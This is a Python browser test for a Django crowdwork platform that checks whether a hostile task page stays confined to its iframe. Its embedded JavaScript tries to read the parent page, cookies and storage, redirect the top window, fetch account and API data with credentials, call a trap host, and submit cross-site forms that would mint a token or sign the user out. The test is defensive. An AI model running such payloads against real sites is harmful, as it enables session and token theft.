"""The page of a HIT comes from a requester. It tries to leave its frame, in a real browser."""

from collections.abc import Iterator
from datetime import UTC, datetime
from urllib.parse import urlsplit

import pytest
from django.conf import settings as site
from django.contrib.auth.models import User
from django.test import Client
from knox.models import AuthToken
from playwright.sync_api import Page, expect
from pytest_django import Settings
from pytest_django.live_server_helper import LiveServer

from annotation.crowd.questions import html_question
from mturk_local.models import EntryChannel, Requester
from mturk_local.operations import Call, operations
from mturk_local.workers import worker_create
from tests.browser.conftest import NewContext
from tests.trap import trap

pytestmark = pytest.mark.django_db(transaction=True, databases=["default", "crowd"])

#: What the page tries, by name; what it gets, or why not, it writes down in its own document.
ATTEMPTS = {
    "read the page around it": "parent.document.body.innerHTML",
    "read the page on top": "top.document.title",
    "read cookies": "document.cookie",
    "read what the site stored": "localStorage.length",
    "move the window": "(top.location.href = TRAP + '/moved', 'moved')",
    "read a page of the platform": "await (await fetch(SITE + '/account/', OWN)).text()",
    "read the API": "await (await fetch(SITE + '/api/v1/me/', OWN)).text()",
    "ask another site": "await (await fetch(TRAP + '/fetched')).text()",
    "load a script of another site": "await import(TRAP + '/script.js')",
    "look through a frame of the platform": (
        "await new Promise((resolve, reject) => { const frame = document.createElement('iframe');"
        "frame.src = SITE + '/account/'; frame.onload = () => { try {"
        "resolve(frame.contentDocument.body.textContent) } catch (error) { reject(error) } };"
        "document.body.append(frame); })"
    ),
}
FORMS = {
    "elsewhere": "TRAP + '/posted'",
    "token": "SITE + '/account/tokens/create/'",
    "sign-out": "SITE + '/sign-out/'",
}


def hostile(live: str, trapped: str) -> str:
    tries = ",".join(f"[{name!r}, async () => {code}]" for name, code in ATTEMPTS.items())
    forms = ",".join(f"[{name!r}, {action}]" for name, action in FORMS.items())
    return f"""<!DOCTYPE html><html lang="en"><head><title>Hostile</title></head><body>
<form method="post" action="https://www.mturk.com/mturk/externalSubmit">
<input type="hidden" name="assignmentId" value=""><button>Submit</button></form>
<img src="{trapped}/image" alt=""><ol id="got"></ol><script>
const SITE = {live!r}, TRAP = {trapped!r}, OWN = {{credentials: "include"}};
const told = (name, what) => {{
  const line = document.createElement("li");
  line.dataset.name = name;
  line.textContent = what;
  document.getElementById("got").append(line);
}};
(async () => {{
  for (const [name, attempt] of [{tries}]) {{
    try {{ told(name, "got: " + await attempt()); }}
    catch (error) {{ told(name, "refused: " + error.name); }}
  }}
  for (const [name, action] of [{forms}]) {{
    const form = document.createElement("form"), inner = document.createElement("iframe");
    inner.name = "of-" + name;
    Object.assign(form, {{method: "post", action, target: inner.name}});
    document.body.append(inner, form);
    form.submit();
  }}
  told("done", "all tried");
}})();
</script></body></html>"""


@pytest.fixture
def trapped() -> Iterator[tuple[str, list[str]]]:
    with trap() as found:
        yield found


@pytest.fixture
def page(
    live_server: LiveServer,
    new_context: NewContext,
    trapped: tuple[str, list[str]],
    settings: Settings,
) -> Page:
    """Anna has accepted the hostile HIT; in the same browser she is signed in to the platform."""
    settings.OPEN = False
    terms = {
        "Title": "Hostile",
        "Description": "Leave the frame.",
        "Reward": "0.25",
        "AssignmentDurationInSeconds": 600,
        "LifetimeInSeconds": 600,
        "MaxAssignments": 1,
        "Question": html_question(hostile(live_server.url, trapped[0])),
    }
    requester = Requester.objects.create(name="lab")
    operations()["CreateHIT"].carry(Call(requester, terms, datetime.now(UTC)))
    worker_create(entry_channel=EntryChannel.ACCOUNT, username="anna", password="correct horse")
    client = Client()
    client.force_login(User.objects.create_user("anna-of-the-platform"))
    context = new_context(base_url=live_server.url)
    context.add_cookies(
        [
            {
                "name": site.SESSION_COOKIE_NAME,
                "value": client.cookies[site.SESSION_COOKIE_NAME].value,
                "domain": urlsplit(live_server.url).hostname or "",
                "path": "/",
            }
        ]
    )
    page = context.new_page()
    page.goto("/annotate/sign-in/")
    page.get_by_label("Name").fill("anna")
    page.get_by_label("Password").fill("correct horse")
    page.get_by_role("button", name="Sign in").click()
    page.get_by_role("link", name="Hostile").click()
    page.get_by_role("button", name="Accept").click()
    return page


def test_a_hostile_page_stays_in_its_frame(page: Page, trapped: tuple[str, list[str]]) -> None:
    before = page.url
    frame = page.frame_locator("iframe[title='The task']")
    expect(frame.locator("li[data-name=done]")).to_have_text("all tried")
    got = {
        str(line.get_attribute("data-name")): line.inner_text()
        for line in frame.locator("li").all()
    }
    assert got.pop("done")
    assert got.keys() == ATTEMPTS.keys()
    assert page.url == before
    assert [name for name, what in got.items() if not what.startswith("refused: ")] == []
    # The forms had their time as well: afterwards nothing is what they wanted it to be.
    page.goto("/account/")
    assert "anna-of-the-platform" in page.content()
    assert not AuthToken.objects.exists()
    assert trapped[1] == []
